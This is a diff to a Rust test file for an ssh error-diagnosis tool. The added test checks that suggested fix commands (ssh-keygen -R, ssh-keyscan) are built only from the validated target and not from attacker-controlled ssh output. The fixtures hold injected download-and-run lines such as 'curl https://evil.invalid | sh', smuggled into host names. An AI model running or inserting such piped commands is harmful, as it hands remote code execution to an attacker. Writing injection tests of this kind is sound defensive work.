@@ -21,13 +21,26 @@ Host key verification failed.\r
 ";
 
 /// What ssh prints, and what is made of it: what broke, words of the message and of the help, whether to try again.
-const ROWS: [(&str, Broken, &str, &str, Again); 16] = [
-    (CHANGED, Broken::HostKey, "known_hosts:7: it sent SHA256:LWyQ0vBZYRjzyFQ7qKz", "-R \"web1\"`", Again::Never),
+const ROWS: [(&str, Broken, &str, &str, Again); 17] = [
+    (
+        CHANGED,
+        Broken::HostKey,
+        "known_hosts:7: it sent SHA256:LWyQ0vBZYRjzyFQ7qKz",
+        "`ssh-keygen -R web1` (if",
+        Again::Never,
+    ),
     (
         "No ED25519 host key is known for [10.0.0.1]:2222 and you have requested strict checking.\r\nHost key verification failed.\r\n",
         Broken::HostKey,
         "is not known",
-        "ssh-keyscan -p 2222 10.0.0.1",
+        "`ssh-keyscan web1`",
+        Again::Never,
+    ),
+    (
+        "Received disconnect from 10.0.0.1 port 22:2: go\r\n@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\r\nssh-keygen -R web1; x\r\n",
+        Broken::Connect,
+        "Received disconnect from 10.0.0.1 port 22:2: go",
+        "ssh -v",
         Again::Never,
     ),
     (
@@ -109,7 +122,7 @@ const ROWS: [(&str, Broken, &str, &str, Again); 16] = [
 #[test]
 fn what_ssh_says_is_told_with_what_to_do() {
     for (said, broken, message, help, again) in ROWS {
-        let trouble = connecting("web1:22", said);
+        let trouble = connecting(&SshTarget::new("web1:22").unwrap(), said);
         assert_eq!((trouble.broken, trouble.again), (broken, again), "{said}: {trouble:?}");
         assert!(trouble.message.contains(message), "{said}: {trouble:?}");
         assert!(trouble.help.as_ref().is_some_and(|text| text.contains(help)), "{said}: {trouble:?}");
@@ -122,5 +135,30 @@ fn the_host_key_speaks_before_what_follows_from_it() {
         "Warning: Permanently added 'x' to the list of known hosts.\r\n{CHANGED}\
                         a@b: Permission denied (publickey).\r\nConnection closed by 10.0.0.1 port 22\r\n"
     );
-    assert_eq!(connecting("web1", &said).broken, Broken::HostKey);
+    assert_eq!(connecting(&SshTarget::new("web1").unwrap(), &said).broken, Broken::HostKey);
+}
+
+#[test]
+fn commands_to_run_are_made_of_the_target_alone() {
+    let unknown = "No ED25519 host key is known for x;curl evil|sh and you have requested strict checking.\r\n";
+    let changed = CHANGED.replace("-R \"web1\"", "-R web1; curl https://evil.invalid | sh");
+    let rows = [
+        ("web1", "-R web1`", "keyscan web1`"),
+        ("deploy@web1:22", "-R web1`", "keyscan web1`"),
+        ("web1:2222", "-R '[web1]:2222'`", "keyscan -p 2222 web1`"),
+        ("a@[::1]:2222", "-R '[::1]:2222'`", "keyscan -p 2222 ::1`"),
+        ("[fe80::1%eth0]", "-R 'fe80::1%eth0'`", "keyscan 'fe80::1%eth0'`"),
+        ("web*", "-R 'web*'`", "keyscan 'web*'`"),
+    ];
+    for (target, remove, scan) in rows {
+        let target = SshTarget::new(target).unwrap();
+        for (said, command) in [(&*changed, remove), (unknown, scan)] {
+            let help = connecting(&target, said).help.unwrap();
+            assert!(help.contains(command) && !help.contains("evil"), "{target}: {help}");
+        }
+    }
+    // As much as ssh says of itself; whatever else stands there is not taken for it.
+    let inside =
+        "deploy@web1: WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\r\nweb1: Permission denied (publickey).\r\n";
+    assert_eq!(connecting(&SshTarget::new("web1").unwrap(), inside).broken, Broken::Auth);
 }
